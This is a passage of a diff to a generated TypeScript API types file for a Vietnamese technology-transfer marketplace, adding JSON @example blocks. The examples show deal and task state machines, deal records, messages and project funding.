+                     *       ],
+                     *       "transitions": [
+                     *         {
+                     *           "name": "accept_interest",
+                     *           "from": [
+                     *             "interest_expressed"
+                     *           ],
+                     *           "to": "accepted",
+                     *           "by": [
+                     *             "provider",
+                     *             "provider_broker"
+                     *           ],
+                     *           "guards": [
+                     *             "respondent",
+                     *             "before_respond_by"
+                     *           ],
+                     *           "effects": [
+                     *             "disclose_identity_contacts_price"
+                     *           ],
+                     *           "description": "Accept the interest (or the proposal) and start talking",
+                     *           "input": {
+                     *             "type": "object",
+                     *             "properties": {
+                     *               "note": {
+                     *                 "type": "string",
+                     *                 "minLength": 1,
+                     *                 "maxLength": 2000,
+                     *                 "pattern": "\\S",
+                     *                 "description": "A word to the other side; not blank"
+                     *               }
+                     *             },
+                     *             "additionalProperties": false
+                     *           }
+                     *         },
+                     *         {
+                     *           "name": "decline_interest",
+                     *           "from": [
+                     *             "interest_expressed"
+                     *           ],
+                     *           "to": "declined",
+                     *           "by": [
+                     *             "provider",
+                     *             "provider_broker"
+                     *           ],
+                     *           "guards": [
+                     *             "respondent",
+                     *             "before_respond_by"
+                     *           ],
+                     *           "effects": [],
+                     *           "description": "Decline the interest (or the proposal) with a reason",
+                     *           "input": {
+                     *             "type": "object",
+                     *             "required": [
+                     *               "reason"
+                     *             ],
+                     *             "properties": {
+                     *               "reason": {
+                     *                 "type": "string",
+                     *                 "enum": [
+                     *                   "not_a_fit",
+                     *                   "not_available"
+                     *                 ],
+                     *                 "title": "DeclineReason",
+                     *                 "description": "Why the interest is declined"
+                     *               },
+                     *               "note": {
+                     *                 "type": "string",
+                     *                 "minLength": 1,
+                     *                 "maxLength": 2000,
+                     *                 "pattern": "\\S",
+                     *                 "description": "More about the reason; not blank"
+                     *               }
+                     *             },
+                     *             "additionalProperties": false
+                     *           }
+                     *         }
+                     *       ],
+                     *       "guards": {
+                     *         "respondent": "The actor is on the side that did not start the deal (the provider for an interest, the seeker for a proposal)",
+                     *         "respond_by_passed": "The time to answer (respondBy) has passed",
+                     *         "before_respond_by": "The time to answer (respondBy) has not passed: a late answer finds the interest expired",
+                     *         "no_own_open_offer": "The actor's side has no open offer (withdraw it first); an open offer of the other side is countered",
+                     *         "offer_to_actor": "offerId is the deal's open offer, made by the other side, and still valid",
+                     *         "offer_by_actor": "offerId is the deal's open offer, made by the actor's side",
+                     *         "offer_validity_passed": "The open offer's validUntil has passed",
+                     *         "milestone_open": "milestoneId is one of the deal's milestones, not yet done",
+                     *         "milestones_done": "Every milestone of the agreed offer is done",
+                     *         "was_disputed": "The deal is disputed (resolve_dispute returns it to the state the dispute interrupted, or cancels it)"
+                     *       },
+                     *       "effects": {
+                     *         "disclose_identity_contacts_price": "The seeker sees the listing's owner, contacts and price on request",
+                     *         "disclose_ipr": "The seeker sees the listing's IPR numbers",
+                     *         "open_offer": "Records the offer; it lapses at its validUntil (a reminder goes out before)",
+                     *         "counter_open_offer": "The other side's open offer is marked countered",
+                     *         "close_offer": "The open offer is marked withdrawn, rejected, accepted or lapsed",
+                     *         "copy_milestones": "The agreed offer's milestones become the deal's milestones",
+                     *         "mark_milestone_done": "The milestone is marked done with its evidence",
+                     *         "record_contract": "Records the signing date and the contract reference",
+                     *         "record_transfer": "Records the transfer value (default: the agreed price) and the completion date for reporting",
+                     *         "close_open_offer": "An open offer is marked withdrawn",
+                     *         "remember_disputed_state": "Keeps the state the dispute interrupted"
+                     *       },
+                     *       "disclosure": [
+                     *         {
+                     *           "field": "owner",
+                     *           "hiddenWhen": "the listing is anonymous",
+                     *           "revealedAt": "accepted"
+                     *         },
+                     *         {
+                     *           "field": "contacts",
+                     *           "hiddenWhen": "disclosure.contacts is false",
+                     *           "revealedAt": "accepted"
+                     *         }
+                     *       ],
+                     *       "timers": {
+                     *         "responseDays": 10,
+                     *         "responseReminderDays": 2,
+                     *         "offerValidityDays": 30,
+                     *         "offerReminderHours": 48
+                     *       }
+                     *     }
+                     */
                     "application/json": components["schemas"]["DealProcess"];
                 };
             };
@@ -12523,6 +16171,70 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "0692dd86-f57d-4579-a2c7-36fc02561815",
+                     *           "state": "interest_expressed",
+                     *           "origin": "interest",
+                     *           "initiatedBy": "seeker",
+                     *           "listing": {
+                     *             "id": "04656e35-9efa-4d3a-9694-cc8bf1d9c5e8",
+                     *             "titleVi": "Máy sấy lúa tầng sôi công suất 10 tấn/mẻ",
+                     *             "titleEn": "Organic rice production process",
+                     *             "kind": "technology",
+                     *             "status": "published",
+                     *             "trl": 7,
+                     *             "anonymous": false,
+                     *             "priceType": "amount",
+                     *             "priceVnd": 250000000,
+                     *             "iprStatus": "patent_granted",
+                     *             "iprNumbers": null,
+                     *             "contacts": null,
+                     *             "redacted": [
+                     *               "contacts",
+                     *               "iprNumbers"
+                     *             ]
+                     *           },
+                     *           "provider": {
+                     *             "id": "97d99ffd-a8e1-4a54-9c4c-1a9f7f51a03f",
+                     *             "name": "Viện Cơ điện Nông nghiệp",
+                     *             "kind": "research_institute"
+                     *           },
+                     *           "seeker": {
+                     *             "id": "613318c5-649c-429a-a57d-068837b1cc53",
+                     *             "name": "HTX Nông nghiệp Giao Thủy",
+                     *             "kind": "enterprise"
+                     *           },
+                     *           "demandId": null,
+                     *           "matchId": null,
+                     *           "message": "Chúng tôi quan tâm tới máy sấy này.",
+                     *           "respondBy": "2026-03-16T03:00:00.000Z",
+                     *           "closeReason": null,
+                     *           "closeNote": null,
+                     *           "disputedFrom": null,
+                     *           "offers": [],
+                     *           "milestones": [],
+                     *           "contractSignedOn": null,
+                     *           "contractReference": null,
+                     *           "transferValueVnd": null,
+                     *           "completedOn": null,
+                     *           "yourRoles": [
+                     *             "seeker"
+                     *           ],
+                     *           "allowedTransitions": [
+                     *             "cancel"
+                     *           ],
+                     *           "stateChangedAt": "2026-03-02T03:00:00.000Z",
+                     *           "createdAt": "2026-03-02T03:00:00.000Z",
+                     *           "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *           "version": 1
+                     *         }
+                     *       ],
+                     *       "nextCursor": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["DealPage"];
                 };
             };
@@ -12619,6 +16331,12 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "listingId": "04656e35-9efa-4d3a-9694-cc8bf1d9c5e8",
+                 *       "message": "Chúng tôi quan tâm tới máy sấy này."
+                 *     }
+                 */
                 "application/json": components["schemas"]["StartDealRequest"];
             };
         };
@@ -12636,6 +16354,65 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "0692dd86-f57d-4579-a2c7-36fc02561815",
+                     *       "state": "interest_expressed",
+                     *       "origin": "interest",
+                     *       "initiatedBy": "seeker",
+                     *       "listing": {
+                     *         "id": "04656e35-9efa-4d3a-9694-cc8bf1d9c5e8",
+                     *         "titleVi": "Máy sấy lúa tầng sôi công suất 10 tấn/mẻ",
+                     *         "titleEn": "Organic rice production process",
+                     *         "kind": "technology",
+                     *         "status": "published",
+                     *         "trl": 7,
+                     *         "anonymous": false,
+                     *         "priceType": "amount",
+                     *         "priceVnd": 250000000,
+                     *         "iprStatus": "patent_granted",
+                     *         "iprNumbers": null,
+                     *         "contacts": null,
+                     *         "redacted": [
+                     *           "contacts",
+                     *           "iprNumbers"
+                     *         ]
+                     *       },
+                     *       "provider": {
+                     *         "id": "97d99ffd-a8e1-4a54-9c4c-1a9f7f51a03f",
+                     *         "name": "Viện Cơ điện Nông nghiệp",
+                     *         "kind": "research_institute"
+                     *       },
+                     *       "seeker": {
+                     *         "id": "613318c5-649c-429a-a57d-068837b1cc53",
+                     *         "name": "HTX Nông nghiệp Giao Thủy",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "demandId": null,
+                     *       "matchId": null,
+                     *       "message": "Chúng tôi quan tâm tới máy sấy này.",
+                     *       "respondBy": "2026-03-16T03:00:00.000Z",
+                     *       "closeReason": null,
+                     *       "closeNote": null,
+                     *       "disputedFrom": null,
+                     *       "offers": [],
+                     *       "milestones": [],
+                     *       "contractSignedOn": null,
+                     *       "contractReference": null,
+                     *       "transferValueVnd": null,
+                     *       "completedOn": null,
+                     *       "yourRoles": [
+                     *         "seeker"
+                     *       ],
+                     *       "allowedTransitions": [
+                     *         "cancel"
+                     *       ],
+                     *       "stateChangedAt": "2026-03-02T03:00:00.000Z",
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 1
+                     *     }
+                     */
                     "application/json": components["schemas"]["Deal"];
                 };
             };
@@ -12801,6 +16578,65 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "0cc54e4d-5f2d-41e7-aec6-3adc7095a8f2",
+                     *       "state": "interest_expressed",
+                     *       "origin": "interest",
+                     *       "initiatedBy": "seeker",
+                     *       "listing": {
+                     *         "id": "04656e35-9efa-4d3a-9694-cc8bf1d9c5e8",
+                     *         "titleVi": "Máy sấy lúa tầng sôi công suất 10 tấn/mẻ",
+                     *         "titleEn": "Organic rice production process",
+                     *         "kind": "technology",
+                     *         "status": "published",
+                     *         "trl": 7,
+                     *         "anonymous": false,
+                     *         "priceType": "amount",
+                     *         "priceVnd": 250000000,
+                     *         "iprStatus": "patent_granted",
+                     *         "iprNumbers": [
+                     *           "1-0023456"
+                     *         ],
+                     *         "contacts": [],
+                     *         "redacted": []
+                     *       },
+                     *       "provider": {
+                     *         "id": "97d99ffd-a8e1-4a54-9c4c-1a9f7f51a03f",
+                     *         "name": "Viện Cơ điện Nông nghiệp",
+                     *         "kind": "research_institute"
+                     *       },
+                     *       "seeker": {
+                     *         "id": "1161566b-2eed-4636-9d01-57546ee3323f",
+                     *         "name": "Công ty thử nghiệm 4",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "demandId": null,
+                     *       "matchId": null,
+                     *       "message": "Chúng tôi quan tâm tới máy sấy này.",
+                     *       "respondBy": "2026-03-16T03:00:00.000Z",
+                     *       "closeReason": null,
+                     *       "closeNote": null,
+                     *       "disputedFrom": null,
+                     *       "offers": [],
+                     *       "milestones": [],
+                     *       "contractSignedOn": null,
+                     *       "contractReference": null,
+                     *       "transferValueVnd": null,
+                     *       "completedOn": null,
+                     *       "yourRoles": [
+                     *         "provider"
+                     *       ],
+                     *       "allowedTransitions": [
+                     *         "accept_interest",
+                     *         "decline_interest"
+                     *       ],
+                     *       "stateChangedAt": "2026-03-02T03:00:00.000Z",
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 1
+                     *     }
+                     */
                     "application/json": components["schemas"]["Deal"];
                 };
             };
@@ -12915,6 +16751,12 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "transition": "accept_interest",
+                 *       "note": "Mời trao đổi"
+                 *     }
+                 */
                 "application/json": components["schemas"]["TransitionDealRequest"];
             };
         };
@@ -12931,6 +16773,65 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "0692dd86-f57d-4579-a2c7-36fc02561815",
+                     *       "state": "accepted",
+                     *       "origin": "interest",
+                     *       "initiatedBy": "seeker",
+                     *       "listing": {
+                     *         "id": "04656e35-9efa-4d3a-9694-cc8bf1d9c5e8",
+                     *         "titleVi": "Máy sấy lúa tầng sôi công suất 10 tấn/mẻ",
+                     *         "titleEn": "Organic rice production process",
+                     *         "kind": "technology",
+                     *         "status": "published",
+                     *         "trl": 7,
+                     *         "anonymous": false,
+                     *         "priceType": "amount",
+                     *         "priceVnd": 250000000,
+                     *         "iprStatus": "patent_granted",
+                     *         "iprNumbers": [
+                     *           "1-0023456"
+                     *         ],
+                     *         "contacts": [],
+                     *         "redacted": []
+                     *       },
+                     *       "provider": {
+                     *         "id": "97d99ffd-a8e1-4a54-9c4c-1a9f7f51a03f",
+                     *         "name": "Viện Cơ điện Nông nghiệp",
+                     *         "kind": "research_institute"
+                     *       },
+                     *       "seeker": {
+                     *         "id": "613318c5-649c-429a-a57d-068837b1cc53",
+                     *         "name": "HTX Nông nghiệp Giao Thủy",
+                     *         "kind": "enterprise"
+                     *       },
+                     *       "demandId": null,
+                     *       "matchId": null,
+                     *       "message": "Chúng tôi quan tâm tới máy sấy này.",
+                     *       "respondBy": null,
+                     *       "closeReason": null,
+                     *       "closeNote": null,
+                     *       "disputedFrom": null,
+                     *       "offers": [],
+                     *       "milestones": [],
+                     *       "contractSignedOn": null,
+                     *       "contractReference": null,
+                     *       "transferValueVnd": null,
+                     *       "completedOn": null,
+                     *       "yourRoles": [
+                     *         "provider"
+                     *       ],
+                     *       "allowedTransitions": [
+                     *         "make_offer",
+                     *         "cancel"
+                     *       ],
+                     *       "stateChangedAt": "2026-03-02T03:00:00.000Z",
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z",
+                     *       "version": 2
+                     *     }
+                     */
                     "application/json": components["schemas"]["Deal"];
                 };
             };
@@ -13114,6 +17015,28 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": 1,
+                     *           "transition": "start",
+                     *           "fromState": null,
+                     *           "toState": "interest_expressed",
+                     *           "actorRole": "provider",
+                     *           "actorOrganizationId": "09e0318b-f9a7-4c49-8fbd-600467ba4b19",
+                     *           "payload": {
+                     *             "origin": "proposal",
+                     *             "matchId": null,
+                     *             "message": "Máy sấy của Viện đáp ứng công suất anh chị cần.",
+                     *             "demandId": "d8c08899-42c8-41ea-88bc-dbbf6a3403a2"
+                     *           },
+                     *           "occurredAt": "2026-03-02T03:00:00.000Z"
+                     *         }
+                     *       ],
+                     *       "nextCursor": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["DealHistory"];
                 };
             };
@@ -13242,6 +17165,31 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "04b003f7-9c93-457e-856a-5668f5d84e3f",
+                     *           "author": {
+                     *             "organizationId": "93ec3daa-77ab-4c23-99f4-23124ea541c9",
+                     *             "role": "provider"
+                     *           },
+                     *           "body": "Tin nhắn số 4",
+                     *           "attachments": [
+                     *             {
+                     *               "url": "https://example.vn/tai-lieu-4.pdf",
+                     *               "title": "Tài liệu 4"
+                     *             },
+                     *             {
+                     *               "url": "http://example.vn/anh.jpg"
+                     *             }
+                     *           ],
+                     *           "createdAt": "2026-03-02T03:00:00.000Z"
+                     *         }
+                     *       ],
+                     *       "nextCursor": "WyJkZWFsLW1lc3NhZ2VzIiwiMjAyNi0wMy0wMlQwMzowMDowMC4wMDBaIiwiMDRiMDAzZjctOWM5My00NTdlLTg1NmEtNTY2OGY1ZDg0ZTNmIl0.2cve83kJ46FFe1lNMTz5rQ"
+                     *     }
+                     */
                     "application/json": components["schemas"]["DealMessagePage"];
                 };
             };
@@ -13354,6 +17302,11 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "body": "Bản sửa"
+                 *     }
+                 */
                 "application/json": components["schemas"]["PostDealMessageRequest"];
             };
         };
@@ -13369,6 +17322,18 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "6ad85346-62b6-4afc-b1cd-40fedccf39e3",
+                     *       "author": {
+                     *         "organizationId": "613318c5-649c-429a-a57d-068837b1cc53",
+                     *         "role": "seeker"
+                     *       },
+                     *       "body": "Bản sửa",
+                     *       "attachments": [],
+                     *       "createdAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["DealMessage"];
                 };
             };
@@ -13531,6 +17496,81 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "states": [
+                     *         {
+                     *           "name": "proposed",
+                     *           "terminal": false,
+                     *           "description": "The lead organisation proposed the task; its partners, funding and links may still change"
+                     *         },
+                     *         {
+                     *           "name": "approved",
+                     *           "terminal": false,
+                     *           "description": "An authority among the partners (a Department of Science and Technology) or the operator approved it; it is public from now on"
+                     *         }
+                     *       ],
+                     *       "roles": [
+                     *         "lead",
+                     *         "partner"
+                     *       ],
+                     *       "transitions": [
+                     *         {
+                     *           "name": "approve",
+                     *           "from": [
+                     *             "proposed"
+                     *           ],
+                     *           "to": "approved",
+                     *           "by": [
+                     *             "authority",
+                     *             "operator"
+                     *           ],
+                     *           "guards": [
+                     *             "has_partner"
+                     *           ],
+                     *           "effects": [
+                     *             "record_approval"
+                     *           ],
+                     *           "description": "Approve the proposed task"
+                     *         },
+                     *         {
+                     *           "name": "start",
+                     *           "from": [
+                     *             "approved"
+                     *           ],
+                     *           "to": "in_progress",
+                     *           "by": [
+                     *             "lead",
+                     *             "operator"
+                     *           ],
+                     *           "guards": [],
+                     *           "effects": [],
+                     *           "description": "Start the work"
+                     *         }
+                     *       ],
+                     *       "guards": {
+                     *         "has_partner": "The task has at least one partner besides its lead that accepted",
+                     *         "has_outputs": "At least one output is recorded"
+                     *       },
+                     *       "effects": {
+                     *         "record_approval": "Records when the task was approved; from then on anyone may read it",
+                     *         "record_completion": "Records the completion date (default: today in Vietnam) for the reports",
+                     *         "record_cancellation": "Records the reason"
+                     *       },
+                     *       "partnerRoles": [
+                     *         "st_organization",
+                     *         "enterprise"
+                     *       ],
+                     *       "fundingSources": [
+                     *         "state",
+                     *         "provincial"
+                     *       ],
+                     *       "outputKinds": [
+                     *         "technology",
+                     *         "product"
+                     *       ]
+                     *     }
+                     */
                     "application/json": components["schemas"]["TaskProcess"];
                 };
             };
@@ -13636,6 +17676,155 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "items": [
+                     *         {
+                     *           "id": "f328a781-22f0-4f44-b876-24ae65142e7f",
+                     *           "title": "Nâng cao giá trị chuỗi lúa gạo Nam Định",
+                     *           "objectives": "Ứng dụng máy sấy tầng sôi cho hợp tác xã, giảm hao hụt sau thu hoạch.",
+                     *           "lead": {
+                     *             "id": "8d2783cc-4f9e-4424-9d35-e876ae2e0703",
+                     *             "name": "Trung tâm Ứng dụng tiến bộ KH&CN Nam Định",
+                     *             "kind": "transfer_centre"
+                     *           },
+                     *           "provinceCode": "36",
+                     *           "currentProvinceCode": "37",
+                     *           "keyProduct": "Lúa gạo",
+                     *           "startsOn": "2026-03-01",
+                     *           "endsOn": "2027-02-28",
+                     *           "status": "completed",
+                     *           "partners": [
+                     *             {
+                     *               "organization": {
+                     *                 "id": "87f5362b-18a0-4753-ab26-500738e1cee1",
+                     *                 "name": "Viện Cơ điện Nông nghiệp",
+                     *                 "kind": "research_institute"
+                     *               },
+                     *               "role": "st_organization",
+                     *               "contribution": "Chuyển giao máy sấy"
+                     *             },
+                     *             {
+                     *               "organization": {
+                     *                 "id": "0ff2bf59-ee8c-46ce-ac64-d979a6571362",
+                     *                 "name": "HTX Nông nghiệp Giao Thủy",
+                     *                 "kind": "enterprise"
+                     *               },
+                     *               "role": "enterprise",
+                     *               "contribution": null
+                     *             }
+                     *           ],
+                     *           "invitedPartners": [],
+                     *           "funding": [
+                     *             {
+                     *               "source": "provincial",
+                     *               "amountVnd": 1500000000,
+                     *               "note": null
+                     *             },
+                     *             {
+                     *               "source": "enterprise",
+                     *               "amountVnd": 500000000,
+                     *               "note": "Đối ứng của hợp tác xã"
+                     *             }
+                     *           ],
+                     *           "fundingTotalVnd": 2000000000,
+                     *           "listingIds": [
+                     *             "a99ac89b-b8f4-4e9f-99db-a3f1ddc98828"
+                     *           ],
+                     *           "demandIds": [
+                     *             "8d70e941-4c31-4a31-a2f4-cbf55c96d3bc"
+                     *           ],
+                     *           "dealIds": [
+                     *             "7e2d8760-5a79-4aee-9ffb-3e17378ebedc"
+                     *           ],
+                     *           "outputs": [
+                     *             {
+                     *               "title": "Mô hình sấy lúa tại HTX Giao Thủy",
+                     *               "kind": "model",
+                     *               "deliveredOn": "2026-10-15"
+                     *             }
+                     *           ],
+                     *           "approvedAt": "2026-03-02T03:00:00.000Z",
+                     *           "completedOn": "2026-12-02",
+                     *           "cancelReason": null,
+                     *           "statusChangedAt": "2026-12-01T18:30:00.000Z",
+                     *           "roles": [],
+                     *           "allowedTransitions": [],
+                     *           "version": 8,
+                     *           "createdAt": "2026-03-02T03:00:00.000Z",
+                     *           "updatedAt": "2026-12-01T18:30:00.000Z"
+                     *         },
+                     *         {
+                     *           "id": "67d625a8-0c4a-4f98-94da-7faa6d6b365e",
+                     *           "title": "Nâng cao giá trị chuỗi lúa gạo Nam Định",
+                     *           "objectives": "Ứng dụng máy sấy tầng sôi cho hợp tác xã, giảm hao hụt sau thu hoạch.",
+                     *           "lead": {
+                     *             "id": "8d2783cc-4f9e-4424-9d35-e876ae2e0703",
+                     *             "name": "Trung tâm Ứng dụng tiến bộ KH&CN Nam Định",
+                     *             "kind": "transfer_centre"
+                     *           },
+                     *           "provinceCode": "01",
+                     *           "currentProvinceCode": "01",
+                     *           "keyProduct": "Lúa gạo",
+                     *           "startsOn": "2026-03-01",
+                     *           "endsOn": "2027-02-28",
+                     *           "status": "approved",
+                     *           "partners": [
+                     *             {
+                     *               "organization": {
+                     *                 "id": "87f5362b-18a0-4753-ab26-500738e1cee1",
+                     *                 "name": "Viện Cơ điện Nông nghiệp",
+                     *                 "kind": "research_institute"
+                     *               },
+                     *               "role": "st_organization",
+                     *               "contribution": "Chuyển giao máy sấy"
+                     *             },
+                     *             {
+                     *               "organization": {
+                     *                 "id": "0ff2bf59-ee8c-46ce-ac64-d979a6571362",
+                     *                 "name": "HTX Nông nghiệp Giao Thủy",
+                     *                 "kind": "enterprise"
+                     *               },
+                     *               "role": "enterprise",
+                     *               "contribution": null
+                     *             }
+                     *           ],
+                     *           "invitedPartners": [],
+                     *           "funding": [
+                     *             {
+                     *               "source": "provincial",
+                     *               "amountVnd": 1500000000,
+                     *               "note": null
+                     *             },
+                     *             {
+                     *               "source": "enterprise",
+                     *               "amountVnd": 500000000,
+                     *               "note": "Đối ứng của hợp tác xã"
+                     *             }
+                     *           ],
+                     *           "fundingTotalVnd": 2000000000,
+                     *           "listingIds": [
+                     *             "a99ac89b-b8f4-4e9f-99db-a3f1ddc98828"
+                     *           ],
+                     *           "demandIds": [
+                     *             "8d70e941-4c31-4a31-a2f4-cbf55c96d3bc"
+                     *           ],
+                     *           "dealIds": [],
+                     *           "outputs": [],
+                     *           "approvedAt": "2026-12-01T18:30:00.000Z",
+                     *           "completedOn": null,
+                     *           "cancelReason": null,
+                     *           "statusChangedAt": "2026-12-01T18:30:00.000Z",
+                     *           "roles": [],
+                     *           "allowedTransitions": [],
+                     *           "version": 5,
+                     *           "createdAt": "2026-12-01T18:30:00.000Z",
+                     *           "updatedAt": "2026-12-01T18:30:00.000Z"
+                     *         }
+                     *       ],
+                     *       "nextCursor": null
+                     *     }
+                     */
                     "application/json": components["schemas"]["TaskPage"];
                 };
             };
@@ -13719,6 +17908,47 @@ export interface operations {
         };
         requestBody: {
             content: {
+                /**
+                 * @example {
+                 *       "title": "Nâng cao giá trị chuỗi lúa gạo Nam Định",
+                 *       "objectives": "Ứng dụng máy sấy tầng sôi cho hợp tác xã, giảm hao hụt sau thu hoạch.",
+                 *       "provinceCode": "36",
+                 *       "keyProduct": "Lúa gạo",
+                 *       "startsOn": "2026-03-01",
+                 *       "endsOn": "2027-02-28",
+                 *       "partners": [
+                 *         {
+                 *           "organizationId": "87f5362b-18a0-4753-ab26-500738e1cee1",
+                 *           "role": "st_organization",
+                 *           "contribution": "Chuyển giao máy sấy"
+                 *         },
+                 *         {
+                 *           "organizationId": "0ff2bf59-ee8c-46ce-ac64-d979a6571362",
+                 *           "role": "enterprise"
+                 *         }
+                 *       ],
+                 *       "funding": [
+                 *         {
+                 *           "source": "provincial",
+                 *           "amountVnd": 1500000000
+                 *         },
+                 *         {
+                 *           "source": "enterprise",
+                 *           "amountVnd": 500000000,
+                 *           "note": "Đối ứng của hợp tác xã"
+                 *         }
+                 *       ],
+                 *       "listingIds": [
+                 *         "a99ac89b-b8f4-4e9f-99db-a3f1ddc98828"
+                 *       ],
+                 *       "demandIds": [
+                 *         "8d70e941-4c31-4a31-a2f4-cbf55c96d3bc"
+                 *       ],
+                 *       "dealIds": [
+                 *         "7e2d8760-5a79-4aee-9ffb-3e17378ebedc"
+                 *       ]
+                 *     }
+                 */
                 "application/json": components["schemas"]["CreateTaskRequest"];
             };
         };
@@ -13736,6 +17966,81 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "f328a781-22f0-4f44-b876-24ae65142e7f",
+                     *       "title": "Nâng cao giá trị chuỗi lúa gạo Nam Định",
+                     *       "objectives": "Ứng dụng máy sấy tầng sôi cho hợp tác xã, giảm hao hụt sau thu hoạch.",
+                     *       "lead": {
+                     *         "id": "8d2783cc-4f9e-4424-9d35-e876ae2e0703",
+                     *         "name": "Trung tâm Ứng dụng tiến bộ KH&CN Nam Định",
+                     *         "kind": "transfer_centre"
+                     *       },
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "keyProduct": "Lúa gạo",
+                     *       "startsOn": "2026-03-01",
+                     *       "endsOn": "2027-02-28",
+                     *       "status": "proposed",
+                     *       "partners": [],
+                     *       "invitedPartners": [
+                     *         {
+                     *           "organization": {
+                     *             "id": "87f5362b-18a0-4753-ab26-500738e1cee1",
+                     *             "name": "Viện Cơ điện Nông nghiệp",
+                     *             "kind": "research_institute"
+                     *           },
+                     *           "role": "st_organization",
+                     *           "contribution": "Chuyển giao máy sấy"
+                     *         },
+                     *         {
+                     *           "organization": {
+                     *             "id": "0ff2bf59-ee8c-46ce-ac64-d979a6571362",
+                     *             "name": "HTX Nông nghiệp Giao Thủy",
+                     *             "kind": "enterprise"
+                     *           },
+                     *           "role": "enterprise",
+                     *           "contribution": null
+                     *         }
+                     *       ],
+                     *       "funding": [
+                     *         {
+                     *           "source": "provincial",
+                     *           "amountVnd": 1500000000,
+                     *           "note": null
+                     *         },
+                     *         {
+                     *           "source": "enterprise",
+                     *           "amountVnd": 500000000,
+                     *           "note": "Đối ứng của hợp tác xã"
+                     *         }
+                     *       ],
+                     *       "fundingTotalVnd": 2000000000,
+                     *       "listingIds": [
+                     *         "a99ac89b-b8f4-4e9f-99db-a3f1ddc98828"
+                     *       ],
+                     *       "demandIds": [
+                     *         "8d70e941-4c31-4a31-a2f4-cbf55c96d3bc"
+                     *       ],
+                     *       "dealIds": [
+                     *         "7e2d8760-5a79-4aee-9ffb-3e17378ebedc"
+                     *       ],
+                     *       "outputs": [],
+                     *       "approvedAt": null,
+                     *       "completedOn": null,
+                     *       "cancelReason": null,
+                     *       "statusChangedAt": "2026-03-02T03:00:00.000Z",
+                     *       "roles": [
+                     *         "lead"
+                     *       ],
+                     *       "allowedTransitions": [
+                     *         "cancel"
+                     *       ],
+                     *       "version": 1,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
+                     *       "updatedAt": "2026-03-02T03:00:00.000Z"
+                     *     }
+                     */
                     "application/json": components["schemas"]["Task"];
                 };
             };
@@ -13888,6 +18193,70 @@ export interface operations {
                     [name: string]: unknown;
                 };
                 content: {
+                    /**
+                     * @example {
+                     *       "id": "f328a781-22f0-4f44-b876-24ae65142e7f",
+                     *       "title": "Nâng cao giá trị chuỗi lúa gạo Nam Định",
+                     *       "objectives": "Ứng dụng máy sấy tầng sôi cho hợp tác xã, giảm hao hụt sau thu hoạch.",
+                     *       "lead": {
+                     *         "id": "8d2783cc-4f9e-4424-9d35-e876ae2e0703",
+                     *         "name": "Trung tâm Ứng dụng tiến bộ KH&CN Nam Định",
+                     *         "kind": "transfer_centre"
+                     *       },
+                     *       "provinceCode": "36",
+                     *       "currentProvinceCode": "37",
+                     *       "keyProduct": "Lúa gạo",
+                     *       "startsOn": "2026-03-01",
+                     *       "endsOn": "2027-02-28",
+                     *       "status": "proposed",
+                     *       "partners": [],
+                     *       "invitedPartners": [
+                     *         {
+                     *           "organization": {
+                     *             "id": "87f5362b-18a0-4753-ab26-500738e1cee1",
+                     *             "name": "Viện Cơ điện Nông nghiệp",
+                     *             "kind": "research_institute"
+                     *           },
+                     *           "role": "st_organization",
+                     *           "contribution": "Chuyển giao máy sấy"
+                     *         }
+                     *       ],
+                     *       "funding": [
+                     *         {
+                     *           "source": "provincial",
+                     *           "amountVnd": 1500000000,
+                     *           "note": null
+                     *         },
+                     *         {
+                     *           "source": "enterprise",
+                     *           "amountVnd": 500000000,
+                     *           "note": "Đối ứng của hợp tác xã"
+                     *         }
+                     *       ],
+                     *       "fundingTotalVnd": 2000000000,
+                     *       "listingIds": [
+                     *         "a99ac89b-b8f4-4e9f-99db-a3f1ddc98828"
+                     *       ],
+                     *       "demandIds": [
+                     *         "8d70e941-4c31-4a31-a2f4-cbf55c96d3bc"
+                     *       ],
+                     *       "dealIds": [
+                     *         "7e2d8760-5a79-4aee-9ffb-3e17378ebedc"
+                     *       ],
+                     *       "outputs": [],
+                     *       "approvedAt": null,
+                     *       "completedOn": null,
+                     *       "cancelReason": null,
+                     *       "statusChangedAt": "2026-03-02T03:00:00.000Z",
+                     *       "roles": [
+                     *         "invitee"
+                     *       ],
+                     *       "allowedTransitions": [],
+                     *       "version": 1,
+                     *       "createdAt": "2026-03-02T03:00:00.000Z",
